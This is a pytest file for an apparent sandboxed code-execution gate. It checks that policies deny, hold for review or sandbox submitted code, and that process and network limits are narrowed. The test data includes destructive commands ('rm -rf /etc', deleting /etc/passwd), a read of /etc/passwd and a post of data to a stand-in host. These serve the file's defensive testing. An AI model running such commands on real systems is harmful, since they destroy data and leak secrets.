"""The verdict in force: every language, every policy the operator allows, and machines no wider than shown need."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import anyio
import pytest

from mayfly.errors import InvalidRequestError, SetupError
from mayfly.model import ExecutionRequest, Limits, Verdict
from mayfly.node.gate import Gate, Passage, load_policies
from mayfly.scan import Manifest, builtin_policy, parse_policy, policy_names, scan

if TYPE_CHECKING:
    from pathlib import Path

MANIFEST = Manifest(image="test", python="3.13.0", stdlib=("os", "json", "threading", "subprocess"))
ASKING = parse_policy(b'name = "asking"\nreview = "ask"')
POLICIES = {name: builtin_policy(name) for name in policy_names()} | {"asking": ASKING}
HOSTILE = {"python": "import os\nos.remove('/etc/passwd')", "bash": "rm -rf /etc"}
DOUBTFUL = "print(open('/etc/passwd').read())"


class Inline:
    """The scan in this process."""

    async def scan(self, code: bytes, lang: Any, policy: Any, manifest: Any = None) -> Verdict:
        return scan(code, lang=lang, policy=policy, manifest=manifest)


def _pass(code: str, lang: str = "python", policy: str = "default", **more: Any) -> Passage:
    gate = Gate(Inline(), MANIFEST, POLICIES)  # type: ignore[arg-type]
    request = ExecutionRequest(code=code, lang=lang, policy=policy, **more)  # type: ignore[arg-type]
    return anyio.run(gate.pass_through, request)


@pytest.mark.parametrize("lang", ["python", "bash"])
@pytest.mark.parametrize("policy", ["default", "strict", "asking"])
def test_a_denied_program_does_not_pass_in_any_language(lang: str, policy: str) -> None:
    passage = _pass(HOSTILE[lang], lang, policy)
    assert not passage.run
    assert passage.verdict.verdict == "deny"
    assert passage.missing == ()


@pytest.mark.parametrize("lang", ["python", "bash"])
def test_what_cannot_be_parsed_passes_under_no_policy(lang: str) -> None:
    for policy in POLICIES:
        passage = _pass("a\0b", lang, policy)
        assert (passage.run, passage.verdict.verdict) == (False, "unparseable")


def test_research_records_and_lets_pass() -> None:
    passage = _pass(HOSTILE["python"], policy="research")
    assert passage.run
    assert any(finding.severity in {"critical", "high"} for finding in passage.verdict.findings)


def test_review_runs_waits_or_is_refused_as_the_policy_says() -> None:
    assert _pass(DOUBTFUL).run
    assert not _pass(DOUBTFUL, policy="strict").run
    waiting = _pass(DOUBTFUL, policy="asking")
    assert not waiting.run
    assert waiting.missing == ("MF-FILE-002@1:7",)
    assert _pass(DOUBTFUL, policy="asking", approve=waiting.missing).run
    assert not _pass(DOUBTFUL, policy="asking", approve=("MF-FILE-002@9:9",)).run


def test_approval_of_every_finding_lifts_no_denial() -> None:
    denied = _pass(HOSTILE["python"], policy="asking")
    ids = tuple(f"{f.rule}@{f.line}:{f.column}" for f in denied.verdict.findings)
    assert not _pass(HOSTILE["python"], policy="asking", approve=ids).run


def test_a_policy_that_the_operator_does_not_allow_is_refused_by_name() -> None:
    with pytest.raises(InvalidRequestError, match="asking, default, research, strict"):
        _pass("print(1)", policy="mine")


@pytest.mark.parametrize(
    ("code", "lang", "pids"),
    [
        ("print(1)", "python", 32),
        ("import threading\nthreading.Thread(target=print).start()", "python", 64),
        ("import subprocess\nsubprocess.run(['ls'])", "python", 64),
        ("import os\npid = os.fork()", "python", 64),
        ("eval(input())", "python", 64),
        ("ls", "bash", 64),
    ],
)
def test_processes_are_given_where_the_program_shows_need_of_them(code: str, lang: str, pids: int) -> None:
    passage = _pass(code, lang, limits=Limits(pids=64))
    assert passage.shape.pids == pids
    assert passage.shape.narrowed_by == (("proc",) if pids == 32 else ())


def test_a_callers_own_limit_is_never_raised() -> None:
    assert _pass("print(1)", limits=Limits(pids=8)).shape.pids == 8


def test_a_review_that_runs_gets_no_network_and_the_result_says_so() -> None:
    shape = _pass("import requests\nrequests.post('http://collect.biz', data='x')").shape
    assert "net" in shape.narrowed_by
    assert shape.egress is False


def test_an_operators_policy_is_read_from_its_file_and_a_bad_one_stops_the_node(tmp_path: Path) -> None:
    (tmp_path / "house.toml").write_text('name = "house"\n[severity]\nMF-FILE-002 = "high"\n')
    policies = load_policies(tmp_path, None)
    assert set(policies) == {"default", "strict", "research", "house"}
    assert set(load_policies(tmp_path, ("house",))) == {"house"}
    with pytest.raises(SetupError, match="absent"):
        load_policies(tmp_path, ("absent",))
    (tmp_path / "house.toml").write_text('name = "other"\n')
    with pytest.raises(SetupError, match="calls itself"):
        load_policies(tmp_path, None)
    (tmp_path / "house.toml").write_text('name = "house"\nreviw = "ask"\n')
    with pytest.raises(SetupError, match="review"):
        load_policies(tmp_path, None)
